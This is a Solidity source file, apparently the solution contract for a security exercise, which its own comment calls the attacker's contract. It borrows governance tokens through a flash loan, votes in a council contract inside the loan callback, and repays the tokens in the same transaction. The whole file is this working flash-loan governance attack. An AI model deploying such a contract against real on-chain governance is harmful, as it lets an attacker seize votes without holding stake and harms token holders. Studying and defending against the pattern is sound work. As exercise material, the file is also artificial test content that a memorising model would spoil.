// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

interface ILender {
    function token() external view returns (IERC20);
    function lend(uint256 amount) external;
}

interface ICouncil {
    function vote(uint256 id) external;
}

/// @title Voter
/// @notice The attacker's contract in the exercise of the council: it borrows votes, casts them and gives them back, in one transaction.
contract Voter {
    ILender public immutable lender;
    ICouncil public immutable council;
    uint256 private id;

    constructor(ILender lender_, ICouncil council_) {
        lender = lender_;
        council = council_;
    }

    function cast(uint256 id_, uint256 amount) external {
        id = id_;
        lender.lend(amount);
    }

    function onLoan(uint256 amount) external {
        require(msg.sender == address(lender), "not the lender");
        council.vote(id);
        lender.token().transfer(address(lender), amount);
    }
}
